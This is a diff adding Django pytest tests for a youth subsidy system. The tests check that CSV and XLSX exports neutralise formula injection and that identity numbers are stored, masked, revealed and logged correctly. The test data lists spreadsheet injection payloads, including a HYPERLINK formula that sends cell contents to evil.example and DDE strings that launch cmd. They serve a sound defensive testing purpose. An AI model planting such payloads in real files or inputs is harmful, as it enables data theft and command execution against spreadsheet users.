@@ -594,3 +594,195 @@ def test_uploaded_files_are_served_as_what_they_are(name, world, clients, db):
         expected = "inline" if label == "claim inline" else "attachment"
         assert d["disposition"].startswith(expected), (label, d["disposition"])
         assert d["disposition"].endswith('.pdf"'), (label, d["disposition"])
+
+
+# --- exports: formula injection -------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
+
+
+def csv_problems(content: bytes) -> list[str]:
+    """Cells a spreadsheet would run: text starting with a formula character (a real number such
+    as -12.50 is fine: it is a number)."""
+    import csv
+    import io
+
+    text = content.decode("utf-8").lstrip("\ufeff")
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    return [c for c in cells if c.startswith(PREFIXES) and not NUMBER.match(c)]
+
+
+def xlsx_cells(content: bytes) -> list:
+    import io
+
+    from openpyxl import load_workbook
+
+    workbook = load_workbook(io.BytesIO(content))
+    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def xlsx_problems(content: bytes) -> list[str]:
+    problems = []
+    for cell in xlsx_cells(content):
+        if cell.data_type == "f":
+            problems.append(f"{cell.coordinate}: formula {cell.value!r}")
+        elif isinstance(cell.value, str) and cell.value.startswith(PREFIXES):
+            problems.append(f"{cell.coordinate}: {cell.value!r}")
+    return problems
+
+
+def test_the_checks_can_fail():
+    import io
+
+    from openpyxl import Workbook
+
+    assert csv_problems(b"a,=1+1\r\n") == ["=1+1"] and csv_problems(b"a,-12.50\r\n") == []
+    book = Workbook()
+    book.active.append(["=1+1", "@x"])
+    out = io.BytesIO()
+    book.save(out)
+    assert len(xlsx_problems(out.getvalue())) == 2
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_subsidy_export_writer_neutralises_text_and_keeps_numbers(fmt):
+    from decimal import Decimal
+
+    from subsidies import exports
+
+    rows = [[value, Decimal("-12.50"), -3, Decimal("60000.00")] for value in FORMULAS]
+    content = exports.write(rows, ["Name", "Amount", "Count", "Total"], fmt)
+    if fmt == "csv":
+        assert csv_problems(content) == []
+        assert "-12.50" in content.decode() and "'=HYPERLINK" in content.decode()
+    else:
+        assert xlsx_problems(content) == []
+        numbers = [c for c in xlsx_cells(content) if c.data_type == "n" and c.value is not None]
+        assert {float(c.value) for c in numbers} == {-12.5, -3.0, 60000.0}  # real numbers stay numbers
+        texts = [c.value for c in xlsx_cells(content) if isinstance(c.value, str)]
+        assert sum(t.startswith("'") for t in texts) == len(FORMULAS)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_every_export_neutralises_a_hostile_name(formula, world, clients, db):
+    """The applicant's name in the payment batch and claims exports, a base's city and district in
+    the public statistics download: in every cell of every format, never a live formula."""
+    from incubators.models import Base
+    from subsidies.models import ExportJob
+    from subsidies.reminders import export_build
+
+    youth = world.users["youth"]
+    type(youth).objects.filter(pk=youth.pk).update(full_name=formula)
+    Base.objects.filter(pk=world.objects["base_a"].pk).update(city=formula, district=formula)
+    files = {}
+    for fmt in ("csv", "xlsx"):
+        response = clients["reviewer"].get(f"/en/subsidies/batches/{world.objects['batch'].pk}/export.{fmt}")
+        assert response["Content-Disposition"].startswith("attachment")
+        files[f"batch.{fmt}"] = response.content
+        job = ExportJob.objects.create(requested_by=world.users["reviewer"], kind=f"claims-{fmt}")
+        export_build(job_id=job.pk)
+        job.refresh_from_db()
+        files[f"claims.{fmt}"] = job.file.read()
+        response = clients["anon"].get(f"/en/bases/statistics/download.{fmt}")
+        assert response["Content-Disposition"].startswith("attachment")
+        files[f"statistics.{fmt}"] = response.content
+    for name, content in files.items():
+        problems = csv_problems(content) if name.endswith("csv") else xlsx_problems(content)
+        assert not problems, (name, problems)
+        cells = (content.decode("utf-8") if name.endswith("csv")
+                 else " ".join(str(c.value) for c in xlsx_cells(content)))
+        assert "'" + formula.strip("\r")[:8] in cells or "'" + formula[:8] in cells, (name, "the value is not there")
+
+
+# --- identity numbers: where they are kept and who sees them (data minimisation) --------------------
+
+DEMO_ID = "A1234563"  # the demo youth's HKID, A123456(3)
+KEPT_IN = {("subsidies_applicantprofile", "identity_number"), ("subsidies_claim", "identity_number")}
+
+
+def _columns_holding(value: str) -> set[tuple[str, str]]:
+    from django.apps import apps
+    from django.db import connection, models
+
+    found = set()
+    with connection.cursor() as cursor:
+        for model in apps.get_models():
+            if not model._meta.managed or model._meta.proxy:
+                continue
+            for f in model._meta.concrete_fields:
+                if isinstance(f, models.CharField | models.TextField | models.JSONField):
+                    table, column = model._meta.db_table, f.column
+                    cursor.execute(f'SELECT 1 FROM "{table}" WHERE "{column}"::text LIKE %s LIMIT 1',  # noqa: S608
+                                   [f"%{value}%"])
+                    if cursor.fetchone():
+                        found.add((table, column))
+    return found
+
+
+def test_identity_numbers_are_kept_in_two_columns_only(world, db):
+    """After the demo (claims in every state, notifications, outbox, transitions, exports), the
+    number is in the applicant's profile and on each submitted claim, nowhere else: not in a
+    notification, an audit note, an outbox payload or a history row. See docs/RELIABILITY.md for
+    why the copy on every claim is more than needed."""
+    from subsidies.models import Claim
+
+    assert _columns_holding(DEMO_ID) == KEPT_IN
+    assert Claim.objects.filter(identity_number=DEMO_ID).count() >= 3  # copied onto every submitted claim
+
+
+def test_identity_numbers_are_masked_for_staff_until_revealed(world, clients, db):
+    from subsidies import rules
+    from subsidies.models import IdentityView
+
+    claim = world.objects["claim_submitted"]
+    assert claim.identity_number == DEMO_ID
+    masked = rules.mask_identity(DEMO_ID)
+    pages = {
+        "reviewer": [f"/en/subsidies/claims/{claim.pk}/", "/en/subsidies/review/",
+                     f"/en/subsidies/batches/{world.objects['batch'].pk}/",
+                     f"/api/v1/subsidies/claims/{claim.pk}/", "/api/v1/subsidies/claims/"],
+        "approver": [f"/en/subsidies/claims/{claim.pk}/", f"/api/v1/subsidies/claims/{claim.pk}/"],
+        "admin": [f"/en/subsidies/claims/{claim.pk}/", f"/en/admin/subsidies/claim/{claim.pk}/change/",
+                  "/en/admin/subsidies/claim/"],
+        "youth": [f"/en/subsidies/claims/{claim.pk}/", f"/api/v1/subsidies/claims/{claim.pk}/"],
+    }
+    for role, urls in pages.items():
+        for url in urls:
+            response = clients[role].get(url)
+            assert response.status_code == 200, (role, url, response.status_code)
+            text = response.content.decode()
+            assert "A123456" not in text, (role, url, "the full number is shown")
+            # the lists and the admin leave it out; the youth's own page does not show it at all
+            if "/admin/" not in url and url != "/api/v1/subsidies/claims/" and (role, url[:4]) != ("youth", "/en/"):
+                assert masked in text or json.dumps(masked)[1:-1] in text, (role, url, "the masked number is missing")
+    assert not IdentityView.objects.filter(claim=claim).exists()
+
+    # Revealing is a POST, for staff only, and each one is recorded.
+    for role in ("youth", "youth_b", "mentor", "operator"):
+        sent = badinput.send(clients[role], "post", f"/en/subsidies/claims/{claim.pk}/identity/")
+        assert sent.status in (403, 404) and "A123456" not in sent.text and not sent.written, role
+    assert clients["reviewer"].get(f"/en/subsidies/claims/{claim.pk}/identity/").status_code == 405
+    response = clients["reviewer"].post(f"/en/subsidies/claims/{claim.pk}/identity/")
+    assert response.status_code == 200 and DEMO_ID in response.content.decode()
+    assert response["Cache-Control"] == "no-store, private"
+    view = IdentityView.objects.get(claim=claim)
+    assert view.viewer == world.users["reviewer"]
+    clients["approver"].post(f"/en/subsidies/claims/{claim.pk}/identity/")
+    assert IdentityView.objects.filter(claim=claim).count() == 2
+
+
+def test_exports_carry_masked_identity_numbers(world, clients, db):
+    from subsidies.models import ExportJob
+    from subsidies.reminders import export_build
+
+    job = ExportJob.objects.create(requested_by=world.users["reviewer"], kind="claims-csv")
+    export_build(job_id=job.pk)
+    job.refresh_from_db()
+    files = {"claims": job.file.read().decode("utf-8"),
+             "batch": clients["reviewer"].get(f"/en/subsidies/batches/{world.objects['batch'].pk}/export.csv")
+             .content.decode("utf-8")}
+    for name, text in files.items():
+        assert "A123456" not in text and "4563" in text, name
